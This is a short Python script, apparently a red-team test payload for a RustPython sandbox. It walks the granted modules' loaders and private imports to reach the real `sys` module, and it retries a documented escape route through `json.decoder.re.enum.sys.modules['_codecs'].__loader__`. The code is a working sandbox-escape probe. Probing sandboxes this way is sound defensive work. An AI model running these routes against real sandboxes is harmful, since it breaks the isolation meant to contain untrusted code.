# The first escape of the second red-team round: `_codecs`, imported by
# RustPython before lockdown, carried `__loader__ = BuiltinImporter`, and
# `load_module('sys')` returned the real `sys`. Every route to a module's
# import metadata, from every granted module and the stand-ins they hold.
import json, re, enum, random, dataclasses, typing, decimal

routes = []
for name, module in list(globals().items()):
    if type(module).__name__ == "module":
        routes.append((name, module))

found = []
for name, module in routes:
    for attr in ("__loader__", "__spec__"):
        value = getattr(module, attr, None)
        if value is not None:
            found.append(f"{name}.{attr} = {value!r}")
    for inner in ("sys", "_sys", "os", "_os", "enum", "re", "codecs", "_codecs"):
        try:
            sub = getattr(module, inner)
        except AttributeError:
            continue
        found.append(f"{name}.{inner} (a private import)")
        loader = getattr(sub, "__loader__", None)
        if loader is not None and hasattr(loader, "load_module"):
            real_sys = loader.load_module("sys")
            print("ESCAPED real sys through", name, inner, real_sys._getframe(0))
try:
    L = json.decoder.re.enum.sys.modules["_codecs"].__loader__
    print("ESCAPED the round's exact route:", L.load_module("sys"))
except (AttributeError, KeyError) as e:
    print("refused:", type(e).__name__, e)
for line in found:
    # A private import is not itself an escape (the walk test fails on
    # import metadata); listing it keeps this payload honest.
    print("reached", line)
